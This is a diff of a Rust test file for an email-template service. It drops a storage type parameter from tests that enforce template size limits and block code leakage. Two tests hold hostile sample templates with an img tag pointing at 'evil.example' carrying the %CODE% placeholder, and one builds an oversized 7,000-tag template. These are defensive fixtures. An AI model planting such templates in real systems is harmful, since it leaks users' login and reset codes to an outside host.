@@ -1,6 +1,5 @@
 //! What operators write into messages: what it may cost, and where it may lead.
 
-use latchkey_storage::Store;
 use latchkey_transfer::{Record, TemplateRecord};
 use serde_json::json;
 
@@ -14,12 +13,12 @@ on_every_store!(
     sec_133_no_import_brings_a_message_that_hands_its_code_on,
 );
 
-async fn word<S: Store>(app: &TestApp<S>, shop: &Made, id: &str, html: &str) -> Answer {
+async fn word(app: &TestApp, shop: &Made, id: &str, html: &str) -> Answer {
     let words = json!({"appId": shop.id, "_id": id, "subject": "Hello", "htmlTemplate": html});
     app.admin("updateEmailTemplate", words).await
 }
 
-async fn sec_129_a_hostile_template_costs_no_more_than_its_length<S: Store>(app: TestApp<S>) {
+async fn sec_129_a_hostile_template_costs_no_more_than_its_length(app: TestApp) {
     let shop = app.app("Shop").await;
     for (html, rule) in [
         (format!("%CODE%<table>{}", "<p>x".repeat(7_000)), "more than 6000 tags"),
@@ -46,7 +45,7 @@ async fn sec_129_a_hostile_template_costs_no_more_than_its_length<S: Store>(app:
     }
 }
 
-async fn sec_116_the_messages_of_an_application_are_bounded_together<S: Store>(app: TestApp<S>) {
+async fn sec_116_the_messages_of_an_application_are_bounded_together(app: TestApp) {
     let shop = app.app("Shop").await;
     let locales: Vec<String> = ["EN", "FR", "DE", "ES", "IT", "NL", "PT", "PL"].map(str::to_owned).into();
     let secret = json!({"appId": shop.id, "locales": locales});
@@ -73,7 +72,7 @@ async fn sec_116_the_messages_of_an_application_are_bounded_together<S: Store>(a
     assert_eq!(word(&app, &shop, "invite-PL", &long).await.error(), (400, 602));
 }
 
-async fn sec_133_no_message_hands_its_code_to_another_host<S: Store>(app: TestApp<S>) {
+async fn sec_133_no_message_hands_its_code_to_another_host(app: TestApp) {
     let shop = app.app("Shop").await;
     let picture = "<p>%CODE%</p><img src=\"https://evil.example/%CODE%.png\">";
     for id in ["signUp-EN", "signUpLink-EN", "resetPassword-EN", "invite-EN", "signUpSuccess-EN", "sms-EN"] {
@@ -111,7 +110,7 @@ async fn sec_133_no_message_hands_its_code_to_another_host<S: Store>(app: TestAp
     assert_eq!(word(&app, &shop, "resetPassword-EN", &own).await.status, 200);
 }
 
-async fn sec_133_no_import_brings_a_message_that_hands_its_code_on<S: Store>(app: TestApp<S>) {
+async fn sec_133_no_import_brings_a_message_that_hands_its_code_on(app: TestApp) {
     const HARMLESS: &str = "<p>Mine: %CODE%</p>";
     let picture = "<p>Mine: %CODE%</p><img src=https://evil.example/%CODE%.png>";
     let shop = app.app("Shop").await;
